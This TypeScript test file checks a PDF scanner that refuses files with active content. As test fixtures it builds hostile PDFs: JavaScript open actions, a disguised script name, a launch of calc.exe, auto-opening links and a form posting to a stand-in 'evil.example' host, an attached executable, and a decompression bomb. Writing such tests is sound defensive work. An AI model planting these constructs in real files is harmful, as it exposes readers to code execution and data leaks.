import { deflateSync } from 'node:zlib';
import PdfDocument from 'pdfkit';
import { buffer } from 'node:stream/consumers';
import { getDocumentProxy } from 'unpdf';
import { describe, expect, it } from 'vitest';
import { findPdfProblem } from './pdf-actions.ts';

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const catalog = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

type Part = string | Buffer;

/** A PDF of one page whose catalog has `more`, with further objects from number 4 on. */
function pdf(more: string, ...others: Part[]): Buffer {
  const file = new Writer();
  [catalog(more), PAGES, PAGE, ...others].forEach((body, index) => file.add(index + 1, body));
  const table = file.size;
  const entries = file.offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  file.write(`xref\n0 ${entries.length + 1}\n0000000000 65535 f \n${entries.join('')}`);
  file.write(`trailer\n<< /Size ${entries.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`);
  return file.bytes;
}

class Writer {
  readonly #parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  readonly offsets: number[] = [];

  get size(): number {
    return this.#parts.reduce((sum, { length }) => sum + length, 0);
  }

  get bytes(): Buffer {
    return Buffer.concat(this.#parts);
  }

  write(part: Part): void {
    this.#parts.push(Buffer.from(part as string, 'latin1'));
  }

  add(id: number, body: Part): void {
    this.offsets.push(this.size);
    this.write(`${id} 0 obj\n`);
    this.write(body);
    this.write('\nendobj\n');
  }
}

const stream = (dictionary: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

/** A PDF like that of `pdf` with its objects packed in a stream, as newer programs write it. */
function packedPdf(
  more: string,
  others: readonly string[] = [],
  change: (packed: Buffer) => Buffer = (same) => same,
): Buffer {
  const objects = [catalog(more), PAGES, PAGE, ...others];
  const offsets = objects.map((_, index) => objects.slice(0, index).join(' ').length + (index > 0 ? 1 : 0));
  const list = offsets.map((offset, index) => `${index + 1} ${offset} `).join('');
  const content = deflateSync(Buffer.from(list + objects.join(' ')));
  const [pack, table] = [objects.length + 1, objects.length + 2];
  const file = new Writer();
  file.add(
    pack,
    stream(`/Type /ObjStm /N ${objects.length} /First ${list.length} /Filter /FlateDecode`, change(content)),
  );
  const at = file.size;
  const row = (kind: number, where: number, index: number) => [kind, where >> 8, where & 255, index];
  const rows = [
    row(0, 0, 0),
    ...objects.map((_, index) => row(2, pack, index)),
    row(1, file.offsets[0] ?? 0, 0),
    row(1, at, 0),
  ];
  file.add(table, stream(`/Type /XRef /Size ${table + 1} /W [1 2 1] /Root 1 0 R`, Buffer.from(rows.flat())));
  file.write(`startxref\n${at}\n%%EOF\n`);
  return file.bytes;
}

const open = (bytes: Buffer) => getDocumentProxy(new Uint8Array(bytes));

describe('a PDF', () => {
  it.each([
    ['plain', pdf('')],
    ['packed', packedPdf('')],
    ['that opens at a page', pdf('/OpenAction [3 0 R /Fit]')],
    ['that opens at a page by an action', pdf('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>')],
    ['packed, with such an action', packedPdf('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>'])],
    ['with a link', pdf('/AA 4 0 R', '<< /Type /Annot /A << /S /URI /URI (https://doubloon.example) >> >>')],
  ])('%s passes', async (_, bytes) => {
    expect((await open(bytes)).numPages).toBe(1);
    expect(findPdfProblem(bytes)).toBeNull();
  });

  it('of an ordinary program passes, with text, pictures and links', async () => {
    const document = new PdfDocument({ info: { Title: 'Brief' } });
    document.text('JavaScript is a language', { link: 'https://doubloon.example' });
    document.end();
    expect(findPdfProblem(await buffer(document))).toBeNull();
  });

  it.each([
    ['runs a script when it is opened', pdf(`/OpenAction ${SCRIPT}`)],
    ['runs a script of a list of names', pdf(`/Names << /JavaScript << /Names [(a) 4 0 R] >> >>`, SCRIPT)],
    ['runs a packed script', packedPdf('/OpenAction 4 0 R', [SCRIPT])],
  ])('that %s is refused', async (_, bytes) => {
    expect(await (await open(bytes)).getJSActions()).not.toBeNull();
    expect(findPdfProblem(bytes)).toBe('active');
  });

  it('with attached files is refused', async () => {
    const carrying = new PdfDocument();
    carrying.file(Buffer.from('MZ'), { name: 'run.exe' });
    carrying.end();
    const bytes = await buffer(carrying);
    const attached = (await (await open(bytes)).getAttachments()) as Map<string, object>;
    expect([...attached.keys()]).toEqual(['run.exe']);
    expect(findPdfProblem(bytes)).toBe('active');
  });

  it.each([
    ['a script in a name with codes', pdf('/OpenAction << /S /J#61vaScript /JS (1) >>')],
    ['a program that is started', pdf('/OpenAction << /S /Launch /F (calc.exe) >>')],
    ['an address that opens by itself', pdf('/OpenAction << /S /URI /URI (https://evil.example) >>')],
    ['the same by a reference', pdf('/OpenAction 4 0 R', '<< /S /URI /URI (https://evil.example) >>')],
    ['the same packed', packedPdf('/OpenAction 4 0 R', ['<< /S /URI /URI (https://evil.example) >>'])],
    ['more after the page', pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>', '<< /S /URI /URI (x) >>')],
    ['an action that is nowhere', pdf('/OpenAction 9 0 R')],
    ['a form that sends data', pdf('/AcroForm 4 0 R', '<< /A << /S /SubmitForm /F (https://evil.example) >> >>')],
    ['a form with its own scripts', pdf('/AcroForm << /XFA 4 0 R >>', stream('', Buffer.from('<xdp/>')))],
    [
      'a later version with a script',
      Buffer.concat([pdf(''), Buffer.from(`1 0 obj\n${catalog(`/OpenAction ${SCRIPT}`)}`)]),
    ],
  ])('with %s is refused', (_, bytes) => {
    expect(findPdfProblem(bytes)).toBe('active');
  });

  it.each([
    ['is encrypted', pdf('', '').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 4 0 R')],
    [
      'breaks off in its packed objects',
      packedPdf('', [SCRIPT], (packed) => packed.subarray(0, -12)).toString('latin1'),
    ],
    [
      'packs its objects twice',
      packedPdf('').toString('latin1').replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
    ],
    ['packs its objects in another way', packedPdf('').toString('latin1').replace('/FlateDecode', '/LZWDecode')],
  ])('that %s is refused, because it cannot be looked into', (_, text) => {
    expect(findPdfProblem(Buffer.from(text, 'latin1'))).toBe('unreadable');
  });

  it('cannot fill the memory with what it has packed', () => {
    const bomb = pdf(
      '',
      stream(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        deflateSync(Buffer.from(`1 0 ${' '.repeat(40_000_000)}`)),
      ),
    );
    expect(bomb.length).toBeLessThan(100_000);
    const before = process.memoryUsage().rss;
    expect(findPdfProblem(bomb)).toBe('unreadable');
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
  });
});
